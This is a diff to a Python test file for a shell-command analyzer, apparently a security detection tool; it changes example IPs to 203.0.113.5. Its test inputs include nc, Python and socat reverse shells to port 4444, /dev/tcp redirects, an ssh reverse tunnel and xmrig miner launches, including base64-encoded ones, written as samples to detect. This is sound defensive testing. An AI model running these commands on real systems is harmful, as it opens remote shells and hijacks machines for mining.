@@ -54,10 +54,10 @@ def test_base64_in_command_substitution_and_eval() -> None:
 
 
 def test_bash_c_recursive() -> None:
-    a = analyze_command('bash -c "nc -e /bin/sh 1.2.3.4 4444"')
+    a = analyze_command('bash -c "nc -e /bin/sh 203.0.113.5 4444"')
     (nc,) = find(a, "nc")
     assert "-e" in nc.argv and nc.source == "bash -c"
-    assert "1.2.3.4" in a.hosts
+    assert "203.0.113.5" in a.hosts
     a = analyze_command("""sh -c "zsh -c 'dash -lc \\"ssh -R 9000:localhost:22 u@h\\"'" """)
     assert find(a, "ssh")
 
@@ -71,13 +71,13 @@ def test_eval_string() -> None:
 def test_python_reverse_shell() -> None:
     code = (
         "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
-        's.connect(("1.2.3.4",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);'
+        's.connect(("203.0.113.5",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);'
         'p=subprocess.call(["/bin/sh","-i"])\''
     )
     a = analyze_command(code)
     assert {"python:socket", "python:socket.connect", "python:os.dup2", "python:subprocess"} <= set(a.features)
     assert "python:reverse_shell" in a.features
-    assert {"kind": "python:socket.connect", "host": "1.2.3.4", "port": 4444, "source": "python -c"} in a.findings
+    assert {"kind": "python:socket.connect", "host": "203.0.113.5", "port": 4444, "source": "python -c"} in a.findings
     py = find(a, "python3")[0]
     assert py.argv[1] == "-c" and "socket" in py.argv[2]
     assert find(a, "sh")[0].source == "python -c"
@@ -137,8 +137,8 @@ def test_ansi_c_quoting_and_obfuscation() -> None:
 def test_variable_indirection() -> None:
     a = analyze_command("a=xmr; b=ig; $a$b -o pool:3333")
     assert find(a, "xmrig")[0].argv == ["xmrig", "-o", "pool:3333"]
-    a = analyze_command("X=/dev/tcp/1.2.3.4/80; exec 3<>$X")
-    assert find(a, "exec")[0].redirects == ["/dev/tcp/1.2.3.4/80"]
+    a = analyze_command("X=/dev/tcp/203.0.113.5/80; exec 3<>$X")
+    assert find(a, "exec")[0].redirects == ["/dev/tcp/203.0.113.5/80"]
     assert "dev_tcp" in a.features and a.parse_error is None
 
 
@@ -146,7 +146,7 @@ def test_wrappers_emit_wrapped_command() -> None:
     got = names("sudo -u root env FOO=1 nohup timeout 5 nice -n 19 setsid stdbuf -oL ./xmrig -o x &")
     for n in ("sudo", "env", "nohup", "timeout", "nice", "setsid", "stdbuf", "xmrig"):
         assert n in got
-    assert "nc" in names("echo 1.2.3.4 | xargs -I{} nc -zv {} 22")
+    assert "nc" in names("echo 203.0.113.5 | xargs -I{} nc -zv {} 22")
     assert "rm" in names("find /tmp -name '*.log' -exec rm -f {} \\;")
 
 
@@ -157,9 +157,9 @@ def test_dev_tcp_redirects() -> None:
 
 
 def test_heredoc_and_herestring_fed_to_interpreters() -> None:
-    a = analyze_command("bash <<EOF\nnc -e /bin/sh 1.2.3.4 1\nEOF\n")
+    a = analyze_command("bash <<EOF\nnc -e /bin/sh 203.0.113.5 1\nEOF\n")
     assert find(a, "nc")[0].source == "heredoc"
-    a = analyze_command("sh <<< 'socat tcp:1.2.3.4:1 exec:sh'")
+    a = analyze_command("sh <<< 'socat tcp:203.0.113.5:1 exec:sh'")
     assert find(a, "socat")[0].source == "heredoc"
     a = analyze_command("cat <<EOF | base64 -d | sh\neG1yaWcgLW8gcG9vbDozMzMz\nEOF\n")
     assert find(a, "xmrig")[0].source == "base64"
